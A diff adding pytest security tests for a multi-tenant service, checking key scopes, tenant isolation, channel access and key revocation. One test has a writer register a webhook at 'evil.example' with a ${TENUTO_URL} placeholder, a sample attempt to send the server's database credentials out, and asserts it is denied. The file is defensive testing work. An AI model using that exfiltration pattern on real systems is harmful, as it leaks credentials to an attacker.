@@ -1,0 +1,162 @@
+"""What the storage verbs would give away of a tenant, and do not: signing keys, channels, other tenants, revoked streams."""
+
+import json
+import threading
+import urllib.request
+from typing import Any
+
+import pytest
+
+from tenuto import AccessDenied, InvalidInput, Tenuto
+from tenuto.backends.remote import wire
+from tenuto.kernel import codec, keys
+from tenuto.kernel.contract import Delete, Put
+from tenuto.kernel.transact import new_request
+
+SIGNING = keys.pack("inbox", "key")
+CHANNELS = keys.pack("notify", "channel")
+
+
+def everything(agent: Tenuto) -> list[Any]:
+    found: list[Any] = []
+    while page := agent.kernel.scan(b"", after=found[-1].key if found else None, limit=2):
+        found += page
+    return found
+
+
+@pytest.mark.scorecard(19)
+def test_a_key_that_reads_cannot_sign_an_answer_of_somebody_else(served: Any) -> None:
+    """Found by review: the key that signs answer links was a record like any other."""
+    own = served.agent()
+    question = own.ask("Pay?", choices=["yes", "no"])
+    page = served.link(question.id, by="cfo")
+    secret = codec.decode(own.kernel.read([SIGNING])[0].value)
+    with Tenuto("reader", served.address, api_key=served.key("read")) as reader:
+        assert codec.decode(reader.kernel.read([SIGNING])[0].value) == b""
+        rows = everything(reader)
+        assert [(one.key, one.version) for one in rows] == [(one.key, one.version) for one in everything(own)]
+        assert not [one for one in rows if secret in one.value]
+        forged = reader.inbox.token(question.id, by="cfo")
+        assert served.ask("POST", f"/answer/{forged}", b"choice=0", key=None).status == 400
+    with Tenuto("writer", served.address, api_key=served.key("write")) as writer:
+        assert writer.inbox.token(question.id, by="ann")
+    assert own.inbox.get(question.id).status == "pending"
+    assert served.ask("POST", page, b"choice=1", key=None).status == 200
+
+
+@pytest.mark.scorecard(19)
+def test_channels_are_written_by_admins_and_not_read_by_readers(served: Any) -> None:
+    own = served.agent()
+    own.notify.to("ann", "https://example.com/hook-t0ken", secret="env:HOOK")
+    record = own.kernel.scan(CHANNELS)[0]
+    with Tenuto("reader", served.address, api_key=served.key("read")) as reader:
+        assert "t0ken" not in repr(everything(reader)) + repr(reader.notify.channels())
+    with Tenuto("writer", served.address, api_key=served.key("write")) as writer:
+        for attempt in (
+            lambda: writer.notify.to("ann", "https://evil.example/?all=${TENUTO_URL}", secret="env:HOOK"),
+            lambda: writer.kernel.commit([], [Put(record.key, record.value)], request=new_request(writer.kernel.now())),
+            lambda: writer.kernel.commit([], [Delete(record.key)], request=new_request(writer.kernel.now())),
+            lambda: writer.kernel.load([record], {}),
+        ):
+            with pytest.raises(AccessDenied, match="scope admin"):
+                attempt()
+        assert writer.ask("Ready?", to="ann").id, "whose channels are read for the outbox"
+    assert own.kernel.scan(CHANNELS) == [record]
+    with Tenuto("admin", served.address, api_key=served.key("admin")) as admin:
+        admin.notify.to("bob", "https://example.com/bob", secret="env:HOOK")
+    assert {one.name for one in own.notify.channels()} == {"ann", "bob"}
+
+
+def test_the_server_itself_sends_no_request_to_an_address_of_a_client(served: Any) -> None:
+    for path in ("/v1/notify/test?name=ann", "/v1/notify/deliver"):
+        assert served.get(path).status == 404
+
+
+@pytest.mark.scorecard(19)
+def test_what_covers_all_tenants_is_for_admins_of_the_servers_own(served: Any) -> None:
+    served.agent("acme").state.set("s", "k", 1)
+    acme, own = served.key("admin", tenant="acme"), served.key("admin")
+    for path in ("/v1/check", "/v1/stats"):
+        refused = served.get(path, key=acme)
+        assert (refused.status, "covers all tenants" in refused.json["detail"]) == (403, True)
+        assert served.get(path, key=own).status == 200
+    with Tenuto("x", served.address, api_key=acme) as agent:
+        assert "store" not in agent.store.stats()
+        with pytest.raises(AccessDenied, match="covers all tenants"):
+            agent.kernel.check()
+    with Tenuto("x", served.address, api_key=own) as agent:
+        assert agent.store.stats()["store"]["backend"] == "sqlite"
+        assert agent.kernel.check() == []
+
+
+@pytest.mark.scorecard(19)
+def test_a_stream_that_is_open_ends_when_its_key_is_revoked(served: Any) -> None:
+    key = served.key("read", name="watcher")
+    request = urllib.request.Request(
+        f"{served.address}/v1/state/watch?scope=s&after=0", headers={"Authorization": f"Bearer {key}"}
+    )
+    own = served.agent()
+    own.state.set("s", "k", "before")
+    with urllib.request.urlopen(request, timeout=20) as stream:
+        lines = [stream.readline() for _ in range(5)]
+        assert b"before" in lines[3]
+        served.keys.revoke("watcher")
+        own.state.set("s", "k", "after the revocation")
+        rest = stream.read()
+    assert b"after the revocation" not in rest
+    assert json.loads(rest.partition(b"data: ")[2])["title"] == "AccessDenied"
+
+
+def test_a_long_poll_that_waits_ends_when_its_key_is_revoked(served: Any) -> None:
+    key = served.key("read", name="poller")
+    own = served.agent()
+    own.state.set("s", "k", 1)
+    stream = own.kernel.streams(b"")[0]
+    replies: list[Any] = []
+    body = wire.packed([[[stream, own.kernel.entries(stream, limit=1, reverse=True)[0].number]], 10])
+    thread = threading.Thread(target=lambda: replies.append(served.post(wire.path_of("watch"), body, key=key)))
+    thread.start()
+    served.keys.revoke("poller")
+    thread.join(20)
+    assert replies[0].status == 401
+
+
+@pytest.mark.scorecard(19)
+def test_revoking_a_name_also_revokes_the_key_that_a_rotation_left_valid(served: Any) -> None:
+    old = served.key("write", name="ci")
+    new = served.keys.rotate("ci", overlap="24h").api_key
+    served.keys.revoke("ci")
+    for key in (old, new):
+        assert served.get("/v1/state/list?scope=s", key=key).status == 401
+    ended = served.key("write", name="brief", expires=0)
+    assert served.get("/v1/state/list?scope=s", key=ended).status == 401
+    assert served.key("write", name="brief"), "the name of a key that has expired is free again"
+
+
+def test_an_idempotency_key_works_for_a_key_with_a_prefix_and_is_its_own(served: Any) -> None:
+    first, second = served.key("write", prefix="case-"), served.key("write", prefix="case-")
+    given = {"scope": "case-1", "key": "k", "value": 1}
+    for again in (None, "true"):
+        reply = served.post("/v1/state/set", given, key=first, Idempotency_Key="once")
+        assert (reply.status, reply.json, reply.headers["Idempotency-Replayed"]) == (200, {"version": 1}, again)
+    other = served.post("/v1/state/set", given, key=second, Idempotency_Key="once")
+    assert (other.json, other.headers["Idempotency-Replayed"]) == ({"version": 2}, None), (
+        "another key's is not replayed"
+    )
+    outside = served.post("/v1/state/set", {**given, "scope": "x"}, key=first, Idempotency_Key="other")
+    assert outside.status == 403
+
+
+def test_a_name_of_a_variable_of_tenuto_is_no_secret_of_a_channel(client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+    from tenuto.capabilities.people.notify.channels import expanded
+
+    monkeypatch.setenv("TENUTO_URL", "postgresql://u:secret@h/db")
+    monkeypatch.setenv("HOOK", "x")
+    assert expanded("https://h/${HOOK}") == "https://h/x"
+    with pytest.raises(InvalidInput, match="TENUTO_URL"):
+        expanded("https://h/?${TENUTO_URL}")
+    monkeypatch.setenv("TENUTO_NOTIFY_VARIABLES", "SLACK_*,MAIL_PASSWORD")
+    monkeypatch.setenv("SLACK_PATH", "y")
+    assert expanded("https://h/${SLACK_PATH}") == "https://h/y"
+    with pytest.raises(InvalidInput, match="TENUTO_NOTIFY_VARIABLES"):
+        expanded("https://h/${HOOK}")
